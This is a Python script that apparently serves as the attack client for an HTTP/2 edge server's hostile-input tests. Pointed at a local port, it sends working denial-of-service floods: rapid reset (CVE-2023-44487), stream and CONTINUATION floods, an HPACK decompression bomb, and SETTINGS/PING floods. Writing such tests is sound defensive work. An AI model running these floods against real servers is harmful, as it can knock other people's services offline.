#!/usr/bin/env python3
"""HTTP/2 attacks on one connection, for the edge's hostile-input tests (edge/tests/hostile.rs).

  h2attack.py --port P [--tls --ca CA.pem] [--authority localhost] [--path /x.ts] [--count N]
              [--timeout SECS] MODE

MODE is one of
  rapid-reset         N requests, each cancelled (RST_STREAM CANCEL) right after its HEADERS (CVE-2023-44487)
  stream-flood        N POST requests whose bodies never come, all open at once (past MAX_CONCURRENT_STREAMS)
  continuation        one HEADERS without END_HEADERS, then N CONTINUATION frames of 1 KiB each, never ended
  continuation-empty  the same with empty CONTINUATION frames (the header list never grows)
  hpack-bomb          one header block that stores a 4,000-byte field in the HPACK table and then names it N
                      times (a 1-byte reference each: N x 4 KB decoded from N bytes)
  settings-flood      N SETTINGS frames, without reading the server's ACKs until the end
  ping-flood          N PING frames, without reading the server's ACKs until the end
  probe               one GET (with --header lines), to check the server still answers

--then-get: after the attack, if the connection is still open, one GET on it ("then_status").

Floods that reset or open streams are sent as fast as the socket takes them (a server that reads them one by
one, paced, just serves them); the CONTINUATION frames are paced by 2 ms, so the server's GOAWAY is read before
the next write: a client writing to a closed connection gets a TCP reset, and the GOAWAY in its receive buffer
is lost (so "goaway" may be null while "closed" is true).

The client speaks the protocol itself (hyperframe frames, hpack header blocks; the h2 package's own state machine
would refuse to send most of these), bounded in frames (N) and time (--timeout, 10 s). Prints one JSON line:
{"mode", "sent": frames or streams sent, "blocked": the server stopped reading, "goaway": error code or null,
 "goaway_debug", "last_stream_id", "closed": the server closed the connection, "statuses": {status: count},
 "resets": {error code: count}, "settings_acks", "ping_acks", "elapsed"}.
"""
import argparse
import json
import select
import socket
import ssl
import sys
import time

from hpack import Decoder, Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = 0x8


class Connection:
    def __init__(self, args):
        sock = socket.create_connection(("127.0.0.1", args.port), timeout=args.timeout)
        if args.tls:
            ctx = ssl.create_default_context(cafile=args.ca)
            ctx.set_alpn_protocols(["h2"])
            sock = ctx.wrap_socket(sock, server_hostname="localhost")
            if sock.selected_alpn_protocol() != "h2":
                raise SystemExit(json.dumps({"error": "no h2 by ALPN"}))
        self.sock = sock
        self.deadline = time.monotonic() + args.timeout
        self.buf = b""
        self.decoder = Decoder()
        self.decoder.max_allowed_table_size = 65536
        self.encoder = Encoder()
        self.pending_headers = {}
        self.result = {"mode": args.mode, "sent": 0, "blocked": False, "goaway": None, "goaway_debug": None,
                       "last_stream_id": None, "closed": False, "statuses": {}, "resets": {},
                       "settings_acks": 0, "ping_acks": 0, "data_bytes": 0}
        self.send(PREFACE + SettingsFrame(0).serialize())

    def send(self, data):
        """Sends `data`; False when the server stopped reading (or hung up) and the deadline passed."""
        try:
            self.sock.settimeout(max(0.05, self.deadline - time.monotonic()))
            self.sock.sendall(data)
            return True
        except (socket.timeout, TimeoutError):
            self.result["blocked"] = True
            return False
        except OSError:
            self.result["closed"] = True
            return False

    def over(self):
        return (self.result["closed"] or self.result["goaway"] is not None
                or time.monotonic() > self.deadline)

    def read(self, wait):
        """Reads and handles frames for up to `wait` seconds (0: what is there now)."""
        end = time.monotonic() + wait
        while not self.result["closed"]:
            left = max(0.0, min(end, self.deadline) - time.monotonic())
            ready, _, _ = select.select([self.sock], [], [], left)
            pending = isinstance(self.sock, ssl.SSLSocket) and self.sock.pending()
            if not ready and not pending:
                return
            try:
                self.sock.settimeout(1)
                chunk = self.sock.recv(65536)
            except (socket.timeout, TimeoutError, ssl.SSLWantReadError):
                return
            except OSError:
                chunk = b""
            if not chunk:
                self.result["closed"] = True
                return
            self.buf += chunk
            self.frames()

    def frames(self):
        while len(self.buf) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.buf[:9]))
            if len(self.buf) < 9 + length:
                return
            frame.parse_body(memoryview(self.buf[9:9 + length]))
            self.buf = self.buf[9 + length:]
            self.handle(frame)

    def handle(self, frame):
        r = self.result
        if isinstance(frame, SettingsFrame):
            if "ACK" in frame.flags:
                r["settings_acks"] += 1
            else:
                self.send(SettingsFrame(0, flags=["ACK"]).serialize())
        elif isinstance(frame, PingFrame):
            if "ACK" in frame.flags:
                r["ping_acks"] += 1
        elif isinstance(frame, GoAwayFrame):
            r["goaway"] = frame.error_code
            r["last_stream_id"] = frame.last_stream_id
            r["goaway_debug"] = frame.additional_data.decode(errors="replace")
        elif isinstance(frame, RstStreamFrame):
            key = str(frame.error_code)
            r["resets"][key] = r["resets"].get(key, 0) + 1
        elif isinstance(frame, (HeadersFrame, ContinuationFrame)):
            block = self.pending_headers.pop(frame.stream_id, b"") + frame.data
            if "END_HEADERS" not in frame.flags:
                self.pending_headers[frame.stream_id] = block
                return
            for name, value in self.decoder.decode(block):
                if name == ":status":
                    r["statuses"][value] = r["statuses"].get(value, 0) + 1
        elif isinstance(frame, DataFrame):
            r["data_bytes"] += len(frame.data)
            if frame.flow_controlled_length:
                # Give the window back, so responses never stall on this client.
                self.send(WindowUpdateFrame(0, window_increment=frame.flow_controlled_length).serialize()
                          + WindowUpdateFrame(frame.stream_id,
                                              window_increment=frame.flow_controlled_length).serialize())

    def request_block(self, method, extra=()):
        fields = [(":method", method), (":scheme", "https" if args.tls else "http"),
                  (":authority", args.authority), (":path", args.path)] + list(extra)
        fields += [tuple(part.strip() for part in h.split(":", 1)) for h in args.header]
        return self.encoder.encode(fields)


def headers(stream_id, block, end_stream=True, end_headers=True):
    flags = (["END_STREAM"] if end_stream else []) + (["END_HEADERS"] if end_headers else [])
    frame = HeadersFrame(stream_id, flags=flags)
    frame.data = block
    return frame.serialize()


def run(args):
    c = Connection(args)
    c.read(0.2)
    n, mode = args.count, args.mode
    if mode == "probe":
        c.send(headers(1, c.request_block("GET")))
        c.result["sent"] = 1
        while not c.result["statuses"] and not c.over():
            c.read(0.2)
    elif mode == "rapid-reset":
        stream_id = 1
        for i in range(n):
            if c.over():
                break
            frame = headers(stream_id, c.request_block("GET"))
            if not c.send(frame + RstStreamFrame(stream_id, error_code=CANCEL).serialize()):
                break
            c.result["sent"] += 1
            stream_id += 2
            c.read(0)
        c.read(1.0)
    elif mode == "stream-flood":
        stream_id = 1
        for i in range(n):
            if c.over():
                break
            block = c.request_block("POST", [("content-length", "100")])
            if not c.send(headers(stream_id, block, end_stream=False)):
                break
            c.result["sent"] += 1
            stream_id += 2
            c.read(0)
        c.read(1.0)
    elif mode in ("continuation", "continuation-empty"):
        c.send(headers(1, c.request_block("GET"), end_stream=True, end_headers=False))
        for i in range(n):
            if c.over():
                break
            frame = ContinuationFrame(1)
            if mode == "continuation":
                frame.data = c.encoder.encode([(f"x-flood-{i}", "v" * 1000)])
            if not c.send(frame.serialize()):
                break
            c.result["sent"] += 1
            c.read(0.002)
        c.read(1.0)
    elif mode == "hpack-bomb":
        # A literal field with incremental indexing (RFC 7541 6.2.1) enters the dynamic table at index 62; each
        # later 0xBE byte (an indexed field, 6.1) names it again.
        value = b"b" * 4000
        name = b"x-bomb"
        literal = bytes([0x40, len(name)]) + name + bytes([0x7F]) + encode_int_rest(len(value) - 127)
        block = c.request_block("GET") + literal + value + b"\xbe" * n
        # The block in frames of at most 16 KiB (the default SETTINGS_MAX_FRAME_SIZE).
        pieces = [block[i:i + 16384] for i in range(0, len(block), 16384)]
        first = headers(1, pieces[0], end_stream=True, end_headers=len(pieces) == 1)
        data = first
        for i, piece in enumerate(pieces[1:], 1):
            frame = ContinuationFrame(1, flags=["END_HEADERS"] if i == len(pieces) - 1 else [])
            frame.data = piece
            data += frame.serialize()
        if c.send(data):
            c.result["sent"] = len(pieces)
        c.read(1.0)
    elif mode == "settings-flood":
        frame = SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65535}).serialize()
        batch = 100
        for _ in range(0, n, batch):
            if c.over() or not c.send(frame * batch):
                break
            c.result["sent"] += batch
        c.read(1.0)
    elif mode == "ping-flood":
        batch = 100
        for _ in range(0, n, batch):
            if c.over() or not c.send(PingFrame(0, opaque_data=b"12345678").serialize() * batch):
                break
            c.result["sent"] += batch
        c.read(1.0)
    else:
        raise SystemExit(f"unknown mode {mode}")
    if args.then_get and not c.over():
        before = dict(c.result["statuses"])
        c.send(headers(2 * c.result["sent"] + 1 if mode.endswith("reset") else 1, c.request_block("GET")))
        while c.result["statuses"] == before and not c.over():
            c.read(0.2)
        got = [k for k, v in c.result["statuses"].items() if v != before.get(k, 0)]
        c.result["then_status"] = int(got[0]) if got else None
    return c.result


def encode_int_rest(rest):
    """The continuation bytes of an HPACK integer (RFC 7541 5.1) after a full prefix."""
    out = bytearray()
    while rest >= 128:
        out.append((rest % 128) | 0x80)
        rest //= 128
    out.append(rest)
    return bytes(out)


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("mode")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--tls", action="store_true")
    parser.add_argument("--ca")
    parser.add_argument("--authority", default="localhost")
    parser.add_argument("--path", default="/x.ts")
    parser.add_argument("--count", type=int, default=1000)
    parser.add_argument("--timeout", type=float, default=10.0)
    parser.add_argument("--header", action="append", default=[], help="name: value, sent with each request")
    parser.add_argument("--then-get", action="store_true")
    args = parser.parse_args()
    started = time.monotonic()
    try:
        result = run(args)
    except (OSError, ssl.SSLError) as e:
        print(json.dumps({"error": f"{type(e).__name__}: {e}"}))
        sys.exit(1)
    result["elapsed"] = round(time.monotonic() - started, 3)
    print(json.dumps(result))
